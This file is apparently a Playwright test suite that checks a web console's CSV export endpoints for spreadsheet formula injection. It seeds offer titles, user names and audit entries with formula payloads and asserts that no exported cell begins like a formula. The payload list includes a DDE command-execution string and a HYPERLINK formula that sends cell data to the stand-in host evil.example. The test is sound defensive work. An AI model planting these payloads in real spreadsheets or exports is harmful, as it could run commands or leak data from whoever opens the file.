/**
 * Every file for a spreadsheet that the house gives out, with formulae in whatever a stranger may have named: no cell of it is
 * run on an agent's machine (bad inputs CS-017; ASVS 1.2.10).
 */
import { randomUUID } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { aTicket } from '../stories/doings';
import { anAgent, call } from '../support/doors';
import { aClick, aGame, aNetwork, anOffer, type Game, query } from '../support/fixtures';

const FORMULAE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '\u200b=1+1',
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '"=1+1"',
  ';=1+1',
];

/** By the file of its door: where each kind of download is asked for. */
const DOWNLOADS: Record<string, (made: Made) => string[]> = {
  'exports/tickets/route.ts': ({ game }) => [`/exports/tickets?queue=all&q=app:${game.key}`],
  'reports/csv/route.ts': ({ game }) =>
    ['days', 'groups&by=offer', 'groups&by=app', 'groups&by=advertiser', 'tickets', 'decisions'].map(
      (what) => `/reports/csv?what=${what}&period=30d&app=${game.key}`,
    ),
  'reports/dry-run/[id]/csv/route.ts': ({ dryRun }) => [`/reports/dry-run/${dryRun}/csv`],
  'bulk/[id]/results/route.ts': ({ order }) => [`/bulk/${order}/results`],
  'audit/route.ts': ({ game }) => [`/audit?format=csv&subject=app:${game.key}`, '/audit?format=csv'],
};

type Made = { game: Game; dryRun: string; order: string };

test('every door that gives out such a file stands in the table', () => {
  const app = join(import.meta.dirname, '../../app');
  const doors = readdirSync(app, { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('route.ts'));
  const giving = doors.filter((file) => /text\/csv|csvDownload|csvLines/.test(readFileSync(join(app, file), 'utf8')));
  expect(giving.map((file) => file.replace('api/console/', '')).sort()).toEqual(Object.keys(DOWNLOADS).sort());
});

for (const [file, urls] of Object.entries(DOWNLOADS)) {
  test(`${file}: no cell begins like a formula`, async () => {
    const made = await theirs();
    const { cookie } = await anAgent('admin');
    for (const url of urls(made)) {
      const answer = await call('GET', `/api/console${url}`, { headers: { Cookie: cookie } });
      expect(answer.status, url).toBe(200);
      expect(answer.headers['content-disposition'], url).toMatch(/^attachment; filename="[\w.-]+\.csv"$/);
      expect(answer.headers['x-content-type-options'], url).toBe('nosniff');
      const cells = (parse(answer.text, { bom: true, relax_column_count: true }) as string[][]).flat();
      expect(cells.filter(isRun), url).toEqual([]);
    }
  });
}

test('the formulae are in the files (otherwise the above shows nothing)', async () => {
  const made = await theirs();
  const { cookie } = await anAgent('admin');
  const [tickets] = DOWNLOADS['exports/tickets/route.ts']!(made);
  const { text } = await call('GET', `/api/console${tickets}`, { headers: { Cookie: cookie } });
  const titles = (parse(text, { bom: true, columns: true }) as { offer: string; user: string }[]).map(
    ({ offer }) => offer,
  );
  expect(titles.map((title) => title.replace(/^'/, '')).sort()).toEqual([...FORMULAE].sort());
});

/** A sum below nothing is a number, and the house's own. */
function isRun(cell: string): boolean {
  return /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
}

let made: Promise<Made> | undefined;

/** A game, a network, offers and players that bear formulae as names. */
function theirs(): Promise<Made> {
  made ??= make();
  return made;
}

async function make(): Promise<Made> {
  const [game, network] = [await aGame(), await aNetwork()];
  for (const formula of FORMULAE) {
    const offer = await anOffer(network, { payoutUsd: '12.00' });
    const user = /\p{Cc}/u.test(formula) ? randomUUID() : `${formula}${randomUUID()}`;
    await aTicket(await aClick(game, offer, user));
    await query('UPDATE offer SET title = $1 WHERE key = $2', [formula, offer.key]);
  }
  await query(`UPDATE app SET name = '=1+1' WHERE key = $1`, [game.key]);
  await query(`UPDATE advertiser SET name = '@SUM(1)' WHERE key = $1`, [network.advertiser]);
  await query(
    `INSERT INTO audit_entry (at, actor_kind, action, subject, before, after) VALUES (now(), 'AUTO', '=1+1', $1, '"=1+1"', '-1')`,
    [`app:${game.key}`],
  );
  await game.stop();
  return { game, dryRun: await aDryRun(game), order: await anOrder(game) };
}

async function aDryRun({ key }: Game): Promise<string> {
  const tickets = await query<{ id: string }>(
    'SELECT t.id FROM ticket t JOIN app a ON a.id = t.app_id WHERE a.key = $1 ORDER BY t.id',
    [key],
  );
  const policies = JSON.stringify([{ limitMicros: '5000000', graceMs: 0 }]);
  const [run] = await query<{ id: string }>(
    `INSERT INTO dry_run (agent_id, status, from_at, until_at, policies, rule_version, total, done, upto_at, upto_id, counts, started_at, ended_at)
     SELECT id, 'DONE', now() - interval '3 days', now(), $1, '2026-11-2', $2, $2, now(), $3, '{}', now(), now()
       FROM agent WHERE role = 'admin' ORDER BY id LIMIT 1 RETURNING id`,
    [policies, tickets.length, tickets.at(-1)!.id],
  );
  const rulings = JSON.stringify([
    { verdict: 'deny', reason: '=1+1', at: '2026-11-01T10:00:00.000Z', contradicted: false },
  ]);
  for (const [place, { id }] of tickets.entries()) {
    await query(
      `INSERT INTO dry_run_row (dry_run_id, place, ticket_id, happened, value_micros, rulings)
       SELECT $1, $2, id, 'denied-auto', value_micros, $3 FROM ticket WHERE id = $4`,
      [run!.id, place, rulings, id],
    );
  }
  return run!.id;
}

/** An order over all of them, refused with words that were put in there. */
async function anOrder({ key }: Game): Promise<string> {
  const [order] = await query<{ id: string }>(
    `INSERT INTO bulk_job (agent_id, action, payload, status, created_at, runs_at, ended_at)
     SELECT id, 'note', '{}', 'DONE', now(), now(), now() FROM agent WHERE role = 'admin' ORDER BY id LIMIT 1 RETURNING id`,
  );
  await query(
    `INSERT INTO bulk_item (job_id, position, ticket_id, version, outcome, code, message, at)
     SELECT $1, row_number() OVER (ORDER BY t.id), t.id, 1, 'FAILED', 'version-changed', '@SUM(1)', now()
       FROM ticket t JOIN app a ON a.id = t.app_id WHERE a.key = $2`,
    [order!.id, key],
  );
  await query('UPDATE bulk_job SET total = $2, failed = $2 WHERE id = $1', [order!.id, FORMULAE.length]);
  return order!.id;
}
